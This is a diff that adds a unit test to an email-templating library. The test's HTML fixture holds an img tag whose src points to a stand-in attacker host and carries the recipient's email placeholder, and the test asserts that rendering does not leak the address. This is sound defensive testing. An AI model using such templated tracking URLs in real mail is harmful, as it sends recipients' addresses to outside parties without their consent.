@@ -162,3 +162,11 @@ def test_what_no_field_is_is_named() -> None:
 def test_names_of_fields() -> None:
     assert field_of("recipient.nobody") is None
     assert field_of(" recipient.attributes . city ") is None
+
+
+def test_a_picture_tells_nobody_who_opened_the_mail_whatever_its_words_hold() -> None:
+    picture = '<p><img alt="a > b" src="https://evil.example/?{{ recipient.email }}"></p>'
+    made = replace(letter("Dear {{ recipient.name }},"), body_html=picture + "<p>Dear {{ recipient.name }}</p>")
+    rendered = mail(made, name="Kim")
+    assert KIM.email not in rendered.html.partition("evil.example")[2][:60]
+    assert "Dear Kim" in rendered.html
